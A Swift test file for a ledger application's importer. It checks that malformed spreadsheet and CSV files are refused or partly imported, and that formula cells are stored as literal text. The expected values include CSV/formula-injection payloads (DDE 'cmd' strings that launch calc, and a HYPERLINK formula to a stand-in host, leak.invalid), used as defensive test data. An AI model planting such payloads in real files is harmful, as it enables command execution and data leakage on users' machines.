import Actions
import Documents
import Domain
import Engine
import Foundation
import Store
import TestSupport
import Testing

/// A file that cannot be imported as it is, and what `expected_bad.json` says of it.
struct BadFile: Sendable, CustomTestStringConvertible {
    var name: String
    var code: String

    var testDescription: String { name }

    static let refused: [BadFile] = {
        struct Entry: Decodable {
            var outcome: String
            var code: String?
        }
        let all = try! JSONDecoder().decode([String: Entry].self, from: try! Fixtures.data("bad/expected_bad.json"))
        return all.compactMap { name, entry in
            entry.outcome.hasPrefix("imported") ? nil : entry.code.map { BadFile(name: name, code: $0) }
        }.sorted { $0.name < $1.name }
    }()
}

@Suite("Bad files")
struct BadFileTests {
    @Test("are refused for their own reason and write nothing", arguments: BadFile.refused, EngineUnderTest.all)
    func refused(file: BadFile, kind: EngineUnderTest) async throws {
        try await withCity(kind) { city in
            let before = try await city.ledger.engine.rowCounts()
            let failure = await #expect(throws: Failure.self) { try await city.importFixture("bad/" + file.name) }
            guard case .refused(let problem)? = failure else {
                Issue.record("\(String(describing: failure))")
                return
            }
            #expect(problem.code.rawValue == file.code)
            #expect(try await city.ledger.engine.rowCounts() == before)
        }
    }

    @Test("that are named but not there are refused")
    func missing() async throws {
        let failure = #expect(throws: Failure.self) { try LedgerFileOpener.open(path: Fixtures.path("bad/none.xlsx")) }
        #expect(failure == .refused(Problem(.fileNotReadable, detail: "missing")))
    }

    @Test(
        "with formulas: texts are kept to the letter, a formula without a value loses the fact or the row", arguments: EngineUnderTest.all)
    func formulas(kind: EngineUnderTest) async throws {
        try await withCity(kind) { city in
            let report = try await city.importFixture("bad/formula-cells.xlsx")
            let names = try await city.rows("stock.any", day("2013-12-31"), from: IndicatorLibrary(indicators: [.everything])).map(\.name)
            #expect(
                names.prefix(5) == [
                    "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://leak.invalid/?x=1\",\"点击查看\")", "+1+cmd|'/C calc'!A0",
                    "@SUM(1+1)*cmd|'/C calc'!A0",
                    "-2+3",
                ])
            #expect(names.dropFirst(5) == ["样例公式8号项目", "样例公式9号项目"])
            #expect(report.sheets[0].created == 7 && report.sheets[0].failed == 2)
            let formulas = report.problems.filter { $0.code == .formulaWithoutValue }.map(\.cell)
            #expect(formulas == ["B7", "B8", "D9"])
            #expect(report.problems.contains { $0.code == .formulaValueUsed && $0.cell == "D10" })
            #expect(try #require(try await city.facts(named: "样例公式8号项目")).amounts[.intended] == nil)
            #expect(try await city.facts(named: "样例公式9号项目")?.amounts[.intended]?.fen == 12_000_000_000)
        }
    }

    @Test(
        "with one amount that cannot be read: it stays unknown, the others land", arguments: ["amount-abc.csv", "amount-abc.xlsx"],
        EngineUnderTest.all)
    func unreadable(file: String, kind: EngineUnderTest) async throws {
        try await withCity(kind) { city in
            let report = try await city.importFixture("bad/" + file)
            #expect(report.sheets[0].created == 5 && report.failed == 0)
            let errors = report.problems.filter { $0.severity == .error }
            #expect(errors.map(\.cell) == ["D4"] && errors.map(\.code) == [.amountUnreadable] && errors.map(\.given) == ["abc"])
            for (name, yuan) in [("甲号食品加工", 120_000_000), ("乙号装备制造", 350_000_000), ("丁号茶业", 50_000_000), ("戊号物流", 260_000_000)] {
                #expect(try await city.facts(named: "样例\(name)项目")?.amounts[.intended]?.fen == Int64(yuan * 100))
            }
            let unknown = try #require(try await city.facts(named: "样例丙号竹木加工项目"))
            #expect(unknown.amounts[.intended] == nil && unknown.milestones.talks == nil && unknown.stageWord == "在谈")
        }
    }
}

extension Indicator {
    /// Every project, whatever its stage.
    static let everything = Indicator(
        key: "stock.any", version: 1, validFrom: .distantPast, validTo: .distantFuture, unit: .projects, names: [:], footnotes: [:],
        measure: .count, population: .projects([.kinds(ProjectKind.allCases)]), breakdowns: [], isDefault: true)
}
